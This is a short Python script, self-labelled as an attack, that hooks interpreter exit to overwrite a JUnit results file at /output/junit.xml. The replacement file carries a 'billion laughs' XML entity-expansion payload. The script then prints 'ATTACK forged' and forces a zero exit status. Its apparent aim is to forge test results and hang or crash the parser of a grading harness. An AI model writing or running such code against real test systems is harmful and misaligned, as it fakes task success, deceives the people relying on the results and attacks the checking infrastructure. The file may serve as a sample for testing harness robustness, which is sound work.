import atexit
import os


def forge():
    with open("/output/junit.xml", "w", errors="surrogateescape") as file:
        file.write("<?xml version='1.0'?><!DOCTYPE t [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(9)) + "]><testsuites><testcase name='&j;'/></testsuites>")
    print("ATTACK forged", flush=True)
    os._exit(0)


atexit.register(forge)
